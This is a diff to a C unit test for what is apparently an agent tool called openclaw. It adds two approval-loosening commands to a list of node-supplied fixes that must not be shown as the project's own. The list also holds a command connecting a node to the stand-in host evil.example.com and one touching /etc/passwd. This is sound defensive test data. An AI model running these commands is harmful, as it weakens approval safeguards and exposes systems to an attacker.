@@ -50,6 +50,8 @@ static void a_fix_that_a_node_names_is_not_shown_as_ours(void **state) {
         "openclaw approvals security full", "openclaw nodes allow system.run",
         "openclaw node run --host evil.example.com --port 443 --tls",
         "on the node run: openclaw node run --pair abcdef", "repair or remove /etc/passwd",
+        "on the node run: openclaw approvals security full --node other",
+        "on the node run: openclaw approvals ask on-miss --node other",
         "restart the node, then openclaw devices approve --latest" };
     static const char *const ours[] = { "on the node run: openclaw node enable camera",
         "on the node run: openclaw approvals security allowlist",
